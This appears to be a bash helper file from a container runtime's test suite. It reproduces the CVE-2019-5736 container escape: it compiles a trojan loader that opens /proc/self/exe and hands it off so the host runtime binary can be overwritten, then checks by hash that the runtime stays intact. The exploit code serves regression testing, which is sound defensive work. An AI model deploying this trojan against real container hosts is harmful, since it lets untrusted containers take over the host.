# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# CVE-2019-5736 and its kind: a program of the container whose interpreter is /proc/self/exe, which is
# whatever executes it, with a loader of the container's own.
#
#   trojan ROOT    puts into the folder ROOT: /evil, the program; its loader, which opens
#                  /proc/self/exe as descriptor 9 and executes /then ("rewrite" "9" behind its name;
#                  the caller puts one there); /good, an honest script
#   my_dewar       a copy of the program that this user may write: sets DEWAR, and SUM
#   dewar_is_whole it has not been written
trojan() {
    need_program cc gcc
    [ "$(uname -m)" = x86_64 ] || skip "the trojan is written for amd64"
    cat >trojan.c <<'END'
static long call(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
void _start(void)
{
    static char then[] = "/then", what[] = "rewrite", nine[] = "9", exe[] = "/proc/self/exe";
    char *argv[] = {then, what, nine, 0}, *env[] = {0};
    call(33, call(2, (long)exe, 0, 0), 9, 0); /* open, dup2 */
    call(59, (long)then, (long)argv, (long)env);
    call(60, 1, 0, 0);
}
END
    mkdir -p "$1/lib64"
    cc -nostdlib -static-pie -fPIE -fno-stack-protector -O1 -o "$1/lib64/ld-linux-x86-64.so.2" trojan.c
    printf '#!/proc/self/exe\n' >"$1/evil"
    printf '#!/bin/sh\necho good\n' >"$1/good"
    chmod 755 "$1/evil" "$1/good"
}
my_dewar() {
    mkdir -p mine/bin mine/libexec/dewar
    local from dynamic
    # The one that has a loader, which an image could bring: the other cannot be made to load anything.
    dynamic=$(dirname "$DEWAR")/../libexec/dewar/dewar-layers
    cp "$([ -x "$dynamic" ] && echo "$dynamic" || echo "$DEWAR")" mine/bin/dewar
    for from in ../libexec/dewar ../runtime; do
        cp "$(dirname "$DEWAR")/$from/dewar-init" mine/libexec/dewar/ 2>/dev/null || true
    done
    DEWAR=$WORK/mine/bin/dewar
    SUM=$(sha256sum <"$DEWAR")
}
dewar_is_whole() { same "$(sha256sum <"$DEWAR")" "$SUM"; }
